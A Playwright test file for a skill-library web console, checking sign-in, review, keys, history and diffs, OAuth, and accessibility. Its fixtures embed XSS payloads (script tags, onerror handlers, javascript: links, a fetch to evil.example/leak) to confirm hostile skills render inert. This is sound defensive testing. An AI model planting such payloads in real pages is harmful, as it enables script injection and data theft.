"""The web console (issue 17) in a real browser: Debian's Chromium
(/usr/bin/chromium, never a browser download) driven by Playwright.

Each page is used the way a person would: sign in, search, open a skill, read
a file, approve a held skill, upload an archive, create and revoke a key, see
the activity. A hostile skill renders inert: no script of it runs and no
request leaves the page. axe-core (fetched by scripts/fetch-axe.sh into
target/axe-core/) finds no serious or critical violation on any page.
Screenshots of every page go to target/console-screenshots/ (not committed).
"""

from __future__ import annotations

import contextlib
import io
import re
import subprocess
import threading
import zipfile
from pathlib import Path

import pytest

from conftest import PROJECT_FIXTURES, REPO
from test_oauth import issuer  # noqa: F401  (a fixture: the mock authorization server)

from playwright import sync_api as playwright_api

CHROMIUM = Path("/usr/bin/chromium")
AXE = REPO / "target" / "axe-core" / "axe.min.js"
SHOTS = REPO / "target" / "console-screenshots"

HOSTILE_MD = """---
name: hostile-page
description: <script>window.__pwned = 'description'</script> looks harmless
tags: ["<img src=x onerror=\\"window.__pwned='tag'\\">"]
---
# Hostile

<script>window.__pwned = 'script'; fetch('https://evil.example/leak')</script>

[click me](javascript:window.__pwned='link') and [ok](https://example.com/)

<img src="https://evil.example/pixel.png" onerror="window.__pwned='img'">

<a href="#" onclick="window.__pwned='onclick'">handler</a>

<svg><script>window.__pwned='svg'</script><circle onload="window.__pwned='svg-onload'"/></svg>

<iframe src="https://evil.example/frame"></iframe>

<style>body { background: url(https://evil.example/bg.png) }</style>

![pixel](https://evil.example/md-pixel.png)

""" + ("A" * (1024 * 1024)) + "\n"

HOSTILE_SVG = b"""<svg xmlns="http://www.w3.org/2000/svg" width="10" height="10"><script>window.parent.__pwned='svg-file'</script><image href="https://evil.example/svg-pixel.png"/></svg>"""


class ConsoleServer:
    """`skill-mcp serve --http 127.0.0.1:0 --scan-policy block` on a library."""

    def __init__(self, cli, *args: str, listen: str = "127.0.0.1:0"):
        self.proc = subprocess.Popen(
            cli.argv("serve", "--http", listen, "--scan-policy", "block", *args),
            stdin=subprocess.DEVNULL,
            stdout=subprocess.DEVNULL,
            stderr=subprocess.PIPE,
            text=True,
        )
        self.base = ""
        ready = threading.Event()

        def drain() -> None:
            assert self.proc.stderr is not None
            for line in self.proc.stderr:
                m = re.search(r"listening on (http://[0-9.:]+)", line)
                if m and not ready.is_set():
                    self.base = m.group(1)
                    ready.set()

        threading.Thread(target=drain, daemon=True).start()
        if not ready.wait(60):
            self.proc.kill()
            raise AssertionError("the server did not announce its address")

    def stop(self) -> None:
        self.proc.terminate()
        try:
            self.proc.wait(30)
        except subprocess.TimeoutExpired:
            self.proc.kill()


@pytest.fixture(scope="module")
def browser():
    if not CHROMIUM.exists():
        pytest.fail("/usr/bin/chromium is missing: run scripts/test.sh as root (it runs apt-get install -y chromium)")
    if not AXE.exists():
        subprocess.run([str(REPO / "scripts" / "fetch-axe.sh")], check=True)
    SHOTS.mkdir(parents=True, exist_ok=True)
    with playwright_api.sync_playwright() as p:
        b = p.chromium.launch(executable_path=str(CHROMIUM), args=["--no-sandbox"])
        yield b
        b.close()


def admin_key(cli) -> str:
    """A new admin key named `ops` (the name the audit trail shows), its token."""
    return cli("keys", "create", "--role", "admin", "--name", "ops", check=True).stdout.strip().splitlines()[-1]


@pytest.fixture
def console(cli, fixtures_dir, tmp_path):
    cli("import", str(fixtures_dir), check=True)
    # The injected fixture has a high-severity scanner finding: held as a draft.
    cli("import", "--scan-policy", "block", str(PROJECT_FIXTURES / "hostile" / "injected"), check=True)
    hostile = tmp_path / "src" / "hostile-page"
    (hostile / "assets").mkdir(parents=True)
    (hostile / "SKILL.md").write_text(HOSTILE_MD)
    (hostile / "page.html").write_text("<script>window.__pwned='html-file'</script>")
    (hostile / "assets" / "logo.svg").write_bytes(HOSTILE_SVG)
    cli("import", str(hostile), check=True)
    token = admin_key(cli)
    reader = cli("keys", "create", "--role", "reader", "--name", "agent", check=True).stdout.strip().splitlines()[-1]
    server = ConsoleServer(cli)
    yield server, token, reader
    server.stop()


def check_page(page, name: str) -> None:
    """Screenshot, then axe-core: no serious or critical violation."""
    page.screenshot(path=str(SHOTS / f"{name}.png"), full_page=False)
    # Evaluated through the DevTools protocol, where the page's CSP (no
    # inline script) does not apply; a <script> tag would be refused.
    if not page.evaluate("() => typeof window.axe === 'object'"):
        page.evaluate(AXE.read_text() + "\n;true")
    result = page.evaluate("async () => await axe.run(document)")
    bad = [
        f"{v['id']} ({v['impact']}): {v['help']} at {[n['target'] for n in v['nodes']][:3]}"
        for v in result["violations"]
        if v["impact"] in ("serious", "critical")
    ]
    assert bad == [], f"{name}: {bad}"


def sign_in(page, base: str, token: str) -> None:
    page.goto(f"{base}/console/")
    assert page.url.endswith("/console/sign-in")
    page.get_by_label("Admin API key").fill(token)
    page.get_by_role("button", name="Sign in").click()
    page.wait_for_url(f"{base}/console/library")


def archive_of(name: str) -> bytes:
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w") as z:
        z.writestr(
            f"{name}/SKILL.md",
            f"---\nname: {name}\ndescription: Uploaded from the console test.\n---\n# {name}\n\nUse it.\n",
        )
    return buf.getvalue()


def test_a_person_runs_the_library_from_the_console(browser, console, tmp_path):
    server, token, reader = console
    base = server.base
    context = browser.new_context()
    page = context.new_page()

    # A reader key is refused, with the reason.
    page.goto(f"{base}/console/sign-in")
    check_page(page, "01-sign-in")
    page.get_by_label("Admin API key").fill(reader)
    page.get_by_role("button", name="Sign in").click()
    assert "This is a reader key or token" in page.get_by_role("alert").inner_text()

    sign_in(page, base, token)
    check_page(page, "02-library")
    assert "held for review" in page.locator(".counts").inner_text()

    # Search, ranked like skill_search.
    page.get_by_label("Search").fill("code review")
    page.get_by_role("button", name="Apply").click()
    page.wait_for_url(re.compile(r".*q=code.*"))
    first = page.locator("table.skills tbody tr").first
    assert "code-review" in first.inner_text()
    check_page(page, "03-library-search")

    # Filter by status: the held draft.
    page.goto(f"{base}/console/library?status=draft")
    rows = page.locator("table.skills tbody tr")
    assert rows.count() == 1
    assert "draft" in rows.first.inner_text()

    # Open a skill, then one of its files.
    page.goto(f"{base}/console/library?q=code+review")
    page.locator("table.skills tbody tr").first.get_by_role("link").click()
    page.wait_for_url(re.compile(r".*/console/skills/code-review$"))
    assert page.get_by_role("heading", name="Findings", exact=False).is_visible()
    check_page(page, "04-skill")
    page.get_by_role("link", name="SKILL.md").click()
    assert "code-review" in page.locator("pre.viewer").inner_text().lower() or page.locator("pre.viewer").is_visible()
    check_page(page, "05-file")
    # An image is shown as an image.
    page.goto(f"{base}/console/skills/code-review")
    page.get_by_role("link", name="assets/review-flow.png").click()
    image = page.get_by_role("img", name=re.compile("review-flow.png"))
    image.wait_for()
    page.wait_for_function("() => document.querySelector('img.shown').complete")
    assert page.evaluate("() => document.querySelector('img.shown').naturalWidth") > 0
    check_page(page, "05b-image")

    # Edit category and tags.
    page.goto(f"{base}/console/skills/code-review")
    page.get_by_label("Category").fill("quality")
    page.get_by_label("Tags (comma-separated)").fill("review, git")
    page.get_by_role("button", name="Save category, tags and groups").click()
    assert "Category, tags and groups saved." in page.get_by_role("status").first.inner_text()

    # The review queue: approve the held skill.
    page.goto(f"{base}/console/review")
    check_page(page, "06-review")
    held = page.locator("article.held")
    assert held.count() == 1
    held_slug = held.locator(".slug").first.inner_text()
    page.on("dialog", lambda d: d.accept())
    held.get_by_role("button", name=re.compile("^Approve")).click()
    page.wait_for_url(re.compile(r".*/console/review\?done=approved"))
    assert page.locator("article.held").count() == 0
    page.goto(f"{base}/console/skills/{held_slug}")
    assert page.locator(".badge.published").first.is_visible()

    # Import an uploaded archive.
    page.goto(f"{base}/console/import")
    check_page(page, "07-import")
    archive = tmp_path / "upload.zip"
    archive.write_bytes(archive_of("uploaded-skill"))
    page.get_by_label("Archive").set_input_files(str(archive))
    page.get_by_role("button", name="Import").click()
    report = page.locator("table.report")
    assert "uploaded-skill" in report.inner_text()
    assert "created" in report.inner_text()
    check_page(page, "08-import-report")

    # Create a key (shown once, with a copy button), then revoke it.
    page.goto(f"{base}/console/keys")
    page.get_by_label("Name").fill("ci-runner")
    page.get_by_role("button", name="Create key").click()
    new_key = page.locator("#new-key").inner_text()
    assert new_key.startswith("skm_")
    assert page.get_by_role("button", name="Copy").is_visible()
    check_page(page, "09-keys-created")
    page.goto(f"{base}/console/keys")
    assert new_key not in page.content(), "shown once"
    page.get_by_role("button", name="Revoke ci-runner").click()
    page.wait_for_url(re.compile(r".*/console/keys\?done=revoked"))
    assert "revoked" in page.locator("table.keys").inner_text()
    check_page(page, "10-keys")

    # Activity: the chart and the tables.
    page.goto(f"{base}/console/activity")
    assert page.locator("figure.chart svg").is_visible()
    audit = page.locator("table.audit").inner_text()
    assert "ops (console)" in audit and "key-revoke" in audit, audit
    check_page(page, "11-activity")

    # Delete with confirmation.
    page.goto(f"{base}/console/skills/uploaded-skill")
    page.get_by_role("link", name="Delete…").click()
    check_page(page, "12-delete")
    page.get_by_role("button", name="Delete uploaded-skill").click()
    page.wait_for_url(re.compile(r".*/console/library.*"))
    assert page.goto(f"{base}/console/skills/uploaded-skill").status == 404

    # Sign out: the console asks to sign in again.
    page.goto(f"{base}/console/library")
    page.get_by_role("button", name="Sign out").click()
    page.wait_for_url(f"{base}/console/sign-in")
    page.goto(f"{base}/console/keys")
    assert page.url.endswith("/console/sign-in")
    context.close()


def test_a_hostile_skill_renders_inert(browser, console):
    server, token, _ = console
    base = server.base
    context = browser.new_context()
    page = context.new_page()
    foreign: list[str] = []
    dialogs: list[str] = []
    # A request the page's CSP blocks is reported by Chromium as attempted and
    # then failed with "csp": it never left. Anything else off-origin did.
    page.on("requestfinished", lambda r: None if r.url.startswith(base) else foreign.append(r.url))
    page.on(
        "requestfailed",
        lambda r: None if r.url.startswith(base) or r.failure == "csp" else foreign.append(f"{r.url} ({r.failure})"),
    )
    page.on("dialog", lambda d: (dialogs.append(d.message), d.dismiss()))
    sign_in(page, base, token)
    for path, name in [
        ("/console/skills/hostile-page", "13-hostile-skill"),
        ("/console/skills/hostile-page/files/page.html", "14-hostile-file"),
        ("/console/skills/hostile-page/files/assets/logo.svg", "15-hostile-svg"),
        ("/console/library?q=hostile", "16-hostile-search"),
    ]:
        response = page.goto(base + path)
        assert response is not None and response.status == 200, path
        page.wait_for_load_state("load")
        assert page.evaluate("() => window.__pwned === undefined"), f"{path}: a script of the skill ran"
        # The skill's links are inert: no javascript: href anywhere.
        hrefs = page.eval_on_selector_all("a[href]", "els => els.map(e => e.getAttribute('href'))")
        assert not [h for h in hrefs if h.strip().lower().startswith("javascript")], path
        assert page.locator("[onclick], [onerror], [onload]").count() == 0, path
        check_page(page, name)
    # The SVG opened on its own runs nothing either (sandboxed by its CSP).
    page.goto(f"{base}/console/skills/hostile-page/raw/assets/logo.svg")
    assert page.evaluate("() => window.__pwned === undefined")
    assert dialogs == []
    assert foreign == [], f"requests left the page: {foreign}"
    context.close()


VERSIONED_V1 = """---
name: versioned
description: The first wording.
---
# Versioned

Step one: read the diff.
Step two: keep it short.
"""

# The second revision adds hostile lines: its diff must render them as text.
VERSIONED_V2 = """---
name: versioned
description: The second wording.
---
# Versioned

Step one: read the diff.
Step two: keep it shorter.
<script>window.__pwned = 'diff'</script>
<img src=x onerror="window.__pwned='diff-img'">
"""


def activate(page, locator) -> None:
    """Keyboard only: focus the control and press Enter, as a person would after tabbing to it."""
    locator.focus()
    assert page.evaluate("() => document.activeElement !== document.body")
    page.keyboard.press("Enter")


@contextlib.contextmanager
def signed_in_on_versioned(browser, cli, tmp_path, added: dict[str, str] | None = None):
    """The skill `versioned` stored twice (revision 2 with a new wording and
    the `added` files), a server on it, and a page of a new browser context
    signed in with an admin key named `ops`: yields (page, base URL)."""
    source = tmp_path / "versioned"
    source.mkdir()
    (source / "SKILL.md").write_text(VERSIONED_V1)
    cli("import", str(source), check=True)
    (source / "SKILL.md").write_text(VERSIONED_V2)
    for name, text in (added or {}).items():
        (source / name).write_text(text)
    cli("import", str(source), check=True)
    token = admin_key(cli)
    server = ConsoleServer(cli)
    try:
        context = browser.new_context()
        page = context.new_page()
        sign_in(page, server.base, token)
        yield page, server.base
        context.close()
    finally:
        server.stop()


def test_history_diff_and_roll_back(browser, cli, tmp_path):
    with signed_in_on_versioned(browser, cli, tmp_path, {"notes.md": "Added in revision 2.\n"}) as (page, base):
        # The history: newest first, with who, when and which files changed.
        page.goto(f"{base}/console/skills/versioned")
        rows = page.locator("table.history tbody tr")
        assert rows.count() == 2
        newest = rows.first.inner_text()
        assert newest.startswith("2") and "current" in newest, newest
        assert "notes.md" in newest and "SKILL.md" in newest, newest
        assert "cli" in newest, newest
        page.locator("#history-h").scroll_into_view_if_needed()
        check_page(page, "17-history")

        # The diff of the two revisions, chosen with the keyboard.
        page.get_by_label("Compare revision").select_option("1")
        page.get_by_label("with revision").select_option("2")
        activate(page, page.get_by_role("button", name="Show changes"))
        page.wait_for_url(re.compile(r".*/console/skills/versioned/diff\?from=1&to=2$"))
        skill_md = page.get_by_label("Changes to SKILL.md")
        assert "-description: The first wording." in skill_md.locator(".del").all_inner_texts()[0]
        added = "\n".join(skill_md.locator(".ins").all_inner_texts())
        assert "+description: The second wording." in added
        assert "<script>window.__pwned = 'diff'</script>" in added, "hostile lines shown as text"
        assert page.evaluate("() => window.__pwned === undefined"), "a line of the diff ran"
        assert page.locator("pre.diff script, pre.diff img").count() == 0
        assert "+Added in revision 2." in page.get_by_label("Changes to notes.md").inner_text()
        check_page(page, "18-diff")

        # Roll back to revision 1: a confirmation, then a new revision 3.
        activate(page, page.get_by_role("link", name="Roll back to revision 1…"))
        page.wait_for_url(re.compile(r".*/console/skills/versioned/rollback\?revision=1$"))
        check_page(page, "19-rollback-confirm")
        activate(page, page.get_by_role("button", name="Roll back to revision 1"))
        page.wait_for_url(re.compile(r".*/console/skills/versioned\?done=rolled-back.*"))
        assert "Rolled back" in page.get_by_role("status").first.inner_text()
        rows = page.locator("table.history tbody tr")
        assert rows.count() == 3
        newest = rows.first.inner_text()
        assert newest.startswith("3") and "current" in newest, newest
        assert "ops (console)" in newest, newest
        assert "The first wording." in page.locator("p.desc").first.inner_text()
        # Revision 3 has revision 1's content: the same hash.
        hashes = page.locator("table.history tbody tr td:nth-child(2) code").all_inner_texts()
        assert hashes[0] == hashes[2] != hashes[1], hashes
        check_page(page, "20-history-rolled-back")


def test_groups_filter_the_library_and_are_edited_on_the_skill_page(browser, console):
    server, token, _ = console
    base = server.base
    context = browser.new_context()
    page = context.new_page()
    sign_in(page, base, token)

    # Put code-review in two groups, with the keyboard: names are trimmed,
    # repeats dropped.
    page.goto(f"{base}/console/skills/code-review")
    page.get_by_label("Groups (comma-separated").fill(" platform, data ,platform")
    activate(page, page.get_by_role("button", name="Save category, tags and groups"))
    page.wait_for_url(re.compile(r".*/console/skills/code-review\?done=saved$"))
    assert page.get_by_label("Groups (comma-separated").input_value() == "data, platform"

    # The Library's group filter lists the groups in use and selects by group.
    page.goto(f"{base}/console/library")
    assert page.locator("#group option").all_inner_texts() == ["any", "data", "platform"]
    # Choosing a group submits the filter form (the console's script).
    page.get_by_label("Group").select_option("platform")
    page.wait_for_url(re.compile(r".*group=platform.*"))
    page.wait_for_load_state("load")
    rows = page.locator("table.skills tbody tr")
    playwright_api.expect(rows).to_have_count(1)
    assert "code-review" in rows.first.inner_text()
    assert "data, platform" in rows.first.inner_text()
    check_page(page, "21-library-group")
    # Groups combine with the other filters and stay on the pager's links.
    page.goto(f"{base}/console/library?group=platform&status=draft")
    assert page.locator("table.skills tbody tr").count() == 0
    page.goto(f"{base}/console/library?group=data&q=code+review")
    assert page.locator("table.skills tbody tr").count() == 1
    page.goto(f"{base}/console/library?group=nobody")
    assert page.locator("table.skills tbody tr").count() == 0

    # A hostile group name is refused by validation, the name shown as text.
    page.goto(f"{base}/console/skills/code-review")
    page.get_by_label("Groups (comma-separated").fill("ok, <img src=x onerror=\"window.__pwned='group'\">")
    with page.expect_navigation():
        page.get_by_role("button", name="Save category, tags and groups").click()
    alert = page.get_by_role("alert").inner_text()
    assert alert.startswith("Groups not saved: group name '<img src=x"), alert
    assert page.locator("main img").count() == 0
    assert page.evaluate("() => window.__pwned === undefined")
    check_page(page, "22-group-refused")
    # Nothing changed; emptying the field takes the skill out of every group.
    page.goto(f"{base}/console/skills/code-review")
    assert page.get_by_label("Groups (comma-separated").input_value() == "data, platform"
    page.get_by_label("Groups (comma-separated").fill("")
    page.get_by_role("button", name="Save category, tags and groups").click()
    page.wait_for_url(re.compile(r".*done=saved$"))
    page.goto(f"{base}/console/library?group=platform")
    assert page.locator("#group option").all_inner_texts() == ["any"]

    # Both edits are in the audit trail, by the signed-in admin.
    page.goto(f"{base}/console/activity")
    audit = page.locator("table.audit tbody tr").all_inner_texts()
    updates = [r for r in audit if "update" in r and "code-review" in r]
    assert any("groups=data,platform" in r and "ops (console)" in r for r in updates), updates
    assert any("groups=" in r and "groups=data" not in r for r in updates), updates
    context.close()


def test_a_removed_skills_history_is_reachable_and_restores_it(browser, cli, tmp_path):
    with signed_in_on_versioned(browser, cli, tmp_path) as (page, base):
        # Delete it from the console.
        page.goto(f"{base}/console/skills/versioned/delete")
        activate(page, page.get_by_role("button", name="Delete versioned"))
        page.wait_for_url(re.compile(r".*/console/library.*"))
        assert page.goto(f"{base}/console/skills/versioned").status == 404

        # The audit trail links the removal to the skill's history.
        page.goto(f"{base}/console/activity")
        removal = page.locator("table.audit tbody tr", has_text="remove").first
        activate(page, removal.get_by_role("link", name="versioned"))
        page.wait_for_url(f"{base}/console/skills/versioned/history")
        assert "was removed" in page.get_by_role("status").first.inner_text()
        rows = page.locator("table.history tbody tr")
        assert rows.count() == 2
        assert "current" not in rows.first.inner_text(), "a removed skill has no current revision"
        check_page(page, "23-removed-history")

        # Its revisions still compare.
        page.get_by_label("Compare revision").select_option("1")
        page.get_by_label("with revision").select_option("2")
        activate(page, page.get_by_role("button", name="Show changes"))
        page.wait_for_url(re.compile(r".*/console/skills/versioned/diff\?from=1&to=2$"))
        assert "<script>window.__pwned = 'diff'</script>" in page.get_by_label("Changes to SKILL.md").inner_text()
        assert page.evaluate("() => window.__pwned === undefined")

        # Restore revision 1: a confirmation, then the skill is back as revision 3.
        page.goto(f"{base}/console/skills/versioned/history")
        activate(page, page.get_by_role("link", name="Restore revision 1…"))
        page.wait_for_url(re.compile(r".*/console/skills/versioned/rollback\?revision=1$"))
        assert "new revision (3)" in page.locator("main").inner_text()
        check_page(page, "24-restore-confirm")
        activate(page, page.get_by_role("button", name="Restore revision 1"))
        page.wait_for_url(re.compile(r".*/console/skills/versioned\?done=rolled-back.*"))
        assert "The first wording." in page.locator("p.desc").first.inner_text()
        newest = page.locator("table.history tbody tr").first.inner_text()
        assert newest.startswith("3") and "current" in newest and "ops (console)" in newest, newest

        # A slug never stored has no history.
        assert page.goto(f"{base}/console/skills/never-stored/history").status == 404


def _token(issuer: str, audience: str, scope: str) -> str:
    import json
    import urllib.parse
    import urllib.request

    body = urllib.parse.urlencode(
        {"grant_type": "client_credentials", "client_id": "console-admin", "scope": scope, "resource": audience}
    ).encode()
    with urllib.request.urlopen(urllib.request.Request(f"{issuer}/token", data=body)) as r:
        return json.loads(r.read())["access_token"]


def test_an_oauth_admin_token_signs_in_and_a_reader_token_is_refused(browser, cli, fixtures_dir, issuer):
    from test_oauth import claims_of, free_port

    cli("import", str(fixtures_dir), check=True)
    key = admin_key(cli)
    port = free_port()
    public = f"http://127.0.0.1:{port}"
    server = ConsoleServer(cli, "--oauth-issuer", issuer, "--public-url", public, listen=f"127.0.0.1:{port}")
    try:
        admin = _token(issuer, public, "skills:admin")
        reader = _token(issuer, public, "skills:read")
        context = browser.new_context()
        page = context.new_page()
        page.goto(f"{public}/console/sign-in")
        field = page.get_by_label("Admin API key or access token")

        # A reader token: the reader key's refusal.
        field.fill(reader)
        page.get_by_role("button", name="Sign in").click()
        assert "This is a reader key or token" in page.get_by_role("alert").inner_text()
        check_page(page, "25-sign-in-reader-token")
        # A token of no one (not a JWT; not key-shaped): refused, with why.
        page.get_by_label("Admin API key or access token").fill("<b>not-a-token</b>")
        page.get_by_role("button", name="Sign in").click()
        alert = page.get_by_role("alert").inner_text()
        assert "This access token is not valid: the access token is not a well-formed JWT" in alert, alert
        assert page.locator("main b").count() == 0
        assert not [c for c in context.cookies() if c["name"] == "skm_console"], "no session"

        # The admin token: a session that ends no later than the token.
        page.get_by_label("Admin API key or access token").fill(admin)
        activate(page, page.get_by_role("button", name="Sign in"))
        page.wait_for_url(f"{public}/console/library")
        assert "Signed in as console-admin" in page.locator(".who").inner_text()
        session = next(c for c in context.cookies() if c["name"] == "skm_console")
        assert session["httpOnly"] and session["sameSite"] == "Strict"
        # Max-Age is counted from the answer, in whole seconds: a few seconds
        # of slack for a loaded machine, against the 12 hours of a key's session.
        assert 0 < session["expires"] <= claims_of(admin)["exp"] + 10, (session["expires"], claims_of(admin)["exp"])
        check_page(page, "26-library-oauth")

        # Its writes are audited under the token's subject.
        page.goto(f"{public}/console/skills/code-review")
        page.get_by_label("Category").fill("oauth-edited")
        page.get_by_role("button", name="Save category, tags and groups").click()
        page.wait_for_url(re.compile(r".*done=saved$"))
        page.goto(f"{public}/console/activity")
        assert "console-admin (console)" in page.locator("table.audit").inner_text()

        # Keys still sign in beside tokens.
        page.get_by_role("button", name="Sign out").click()
        page.wait_for_url(f"{public}/console/sign-in")
        page.get_by_label("Admin API key or access token").fill(key)
        page.get_by_role("button", name="Sign in").click()
        page.wait_for_url(f"{public}/console/library")
        assert "Signed in as ops" in page.locator(".who").inner_text()
        context.close()
    finally:
        server.stop()
